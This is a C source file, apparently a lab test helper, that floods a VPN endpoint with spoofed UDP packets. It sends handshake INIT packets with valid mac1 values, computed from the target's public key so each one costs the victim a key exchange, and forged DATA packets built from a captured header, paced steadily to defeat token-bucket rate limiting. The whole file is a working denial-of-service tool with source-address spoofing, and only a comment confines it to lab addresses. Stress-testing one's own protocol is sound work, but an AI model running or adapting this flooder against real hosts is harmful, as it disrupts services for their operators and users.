/* sec_flood.c — test_attack.sh's floods, COUNT packets at RATE per second
 * from forged random sources in 198.19.0.0/16, sent with sendmmsg in
 * batches so the attacker costs little CPU on a 2-core machine.  Only for
 * addresses inside the lab.
 *   flood PUBKEY_HEX DST_IP DST_PORT COUNT RATE
 *       valid-mac1 INITs (random ephemeral/static/payload, so each costs
 *       the victim a DH unless cookies stop it)
 *   flood data:PREFIX_HEX[:SIZE] DST_IP DST_PORT COUNT RATE
 *       forged DATA packets of SIZE bytes (default 1200): PREFIX (the first
 *       8 bytes of a captured DATA packet: header and receiver index), then
 *       random counter, ciphertext and tag; each reaches the peer's session
 *       and fails authentication there */
#define _GNU_SOURCE
#include <arpa/inet.h>
#include <netinet/ip.h>
#include <netinet/udp.h>
#include <sodium.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <time.h>
#include <unistd.h>

#define POOL 1024
#define BATCH 64
/* HANDSHAKE_INIT (docs/PROTOCOL.md 2.1): 176 bytes, mac1 at 144, mac2 at 160 */
#define INIT 176
#define INIT_MAC1 144
#define INIT_MAC2 160
/* DATA: 16-byte header (type, version, 2 reserved, receiver index, counter)
 * and a 16-byte tag: 32 bytes at least; 1472 fits an Ethernet frame. */
#define DATA_MIN 32
#define PKT_MAX 1472

static double now(void)
{
	struct timespec t;
	clock_gettime(CLOCK_MONOTONIC, &t);
	return t.tv_sec + t.tv_nsec / 1e9;
}

static uint16_t csum(const void *p, size_t n, uint32_t s)
{
	const uint8_t *b = p;
	for (size_t i = 0; i + 1 < n; i += 2)
		s += (uint32_t)(b[i] << 8 | b[i + 1]);
	if (n & 1)
		s += (uint32_t)(b[n - 1] << 8);
	while (s >> 16)
		s = (s & 0xffff) + (s >> 16);
	return (uint16_t)~s;
}

int main(int argc, char **argv)
{
	uint8_t pub[32], key[32];
	static uint8_t pool[POOL][PKT_MAX], pkts[BATCH][20 + 8 + PKT_MAX];
	struct mmsghdr m[BATCH];
	struct iovec iov[BATCH];
	struct sockaddr_in dst = { .sin_family = AF_INET };

	if (argc != 6 || sodium_init() < 0)
		return 2;
	size_t size = INIT;
	int data = strncmp(argv[1], "data:", 5) == 0;
	if (data) {
		uint8_t prefix[8];
		unsigned long sz = 1200;
		for (int i = 0; i < 8; i++)
			if (sscanf(argv[1] + 5 + 2 * i, "%2hhx", &prefix[i]) != 1) {
				fprintf(stderr, "bad DATA prefix '%s' (16 hex digits)\n", argv[1] + 5);
				return 2;
			}
		if (argv[1][21] == ':')
			sz = strtoul(argv[1] + 22, NULL, 10);
		if (sz < DATA_MIN || sz > PKT_MAX) {
			fprintf(stderr, "bad DATA size in '%s' (%d..%d)\n", argv[1], DATA_MIN, PKT_MAX);
			return 2;
		}
		size = sz;
		for (int i = 0; i < POOL; i++) {
			randombytes_buf(pool[i], size);
			memcpy(pool[i], prefix, sizeof(prefix));
		}
	} else {
		for (int i = 0; i < 32; i++)
			sscanf(argv[1] + 2 * i, "%2hhx", &pub[i]);
		crypto_hash_sha256_state st;
		crypto_hash_sha256_init(&st);
		crypto_hash_sha256_update(&st, (const uint8_t *)"mac1----", 8);
		crypto_hash_sha256_update(&st, pub, 32);
		crypto_hash_sha256_final(&st, key);
		for (int i = 0; i < POOL; i++) {
			randombytes_buf(pool[i], INIT);
			pool[i][0] = 1, pool[i][1] = 1, pool[i][2] = pool[i][3] = 0;
			crypto_generichash(pool[i] + INIT_MAC1, 16, pool[i], INIT_MAC1, key, 32);
			memset(pool[i] + INIT_MAC2, 0, 16);
		}
	}
	inet_pton(AF_INET, argv[2], &dst.sin_addr);
	uint16_t dport = (uint16_t)atoi(argv[3]);
	long count = atol(argv[4]);
	double rate = atof(argv[5]);
	int s = socket(AF_INET, SOCK_RAW, IPPROTO_RAW);
	if (s < 0) {
		perror("raw socket");
		return 1;
	}
	/* Forged DATA goes out about every millisecond, not in bursts of
	 * BATCH: a bursty flood leaves gaps in which a token bucket refills
	 * for the real packets, a steady one does not. */
	long batch = BATCH;
	if (data)
		batch = rate / 1000 < 1 ? 1 : rate / 1000 > BATCH ? BATCH : (long)(rate / 1000);
	double t0 = now();
	long sent = 0;
	while (sent < count && now() - t0 < 120) {
		int n = count - sent < batch ? (int)(count - sent) : (int)batch;
		for (int i = 0; i < n; i++) {
			uint8_t *p = pkts[i];
			struct iphdr *ip = (struct iphdr *)p;
			struct udphdr *u = (struct udphdr *)(p + 20);
			uint32_t r = randombytes_random();
			memset(p, 0, 28);
			ip->ihl = 5, ip->version = 4, ip->ttl = 64, ip->protocol = IPPROTO_UDP;
			ip->tot_len = htons((uint16_t)(20 + 8 + size));
			ip->saddr = htonl(0xc6130000u | (r & 0xffff));
			if ((r & 0xff) == 0 || (r & 0xff) == 255)
				ip->saddr ^= htonl(1);
			ip->daddr = dst.sin_addr.s_addr;
			u->source = htons((uint16_t)(1024 + (r >> 16) % 60000));
			u->dest = htons(dport);
			u->len = htons((uint16_t)(8 + size));
			memcpy(p + 28, pool[(sent + i) % POOL], size);
			/* UDP checksum over the pseudo header. */
			uint8_t ph[12];
			memcpy(ph, &ip->saddr, 4), memcpy(ph + 4, &ip->daddr, 4);
			ph[8] = 0, ph[9] = IPPROTO_UDP, ph[10] = (uint8_t)((8 + size) >> 8), ph[11] = (uint8_t)(8 + size);
			uint32_t s0 = 0;
			for (int k = 0; k < 12; k += 2)
				s0 += (uint32_t)(ph[k] << 8 | ph[k + 1]);
			uint16_t c = csum(u, 8 + size, s0);
			u->check = htons(c ? c : 0xffff);
			ip->check = htons(csum(ip, 20, 0));
			iov[i].iov_base = p;
			iov[i].iov_len = 28 + size;
			memset(&m[i], 0, sizeof(m[i]));
			m[i].msg_hdr.msg_iov = &iov[i];
			m[i].msg_hdr.msg_iovlen = 1;
			m[i].msg_hdr.msg_name = &dst;
			m[i].msg_hdr.msg_namelen = sizeof(dst);
		}
		int k = sendmmsg(s, m, (unsigned)n, 0);
		if (k > 0)
			sent += k;
		double ahead = sent / rate - (now() - t0);
		if (ahead > 0)
			usleep((useconds_t)(ahead * 1e6));
	}
	printf("%ld %.2f\n", sent, now() - t0);
	return sent == count ? 0 : 1;
}
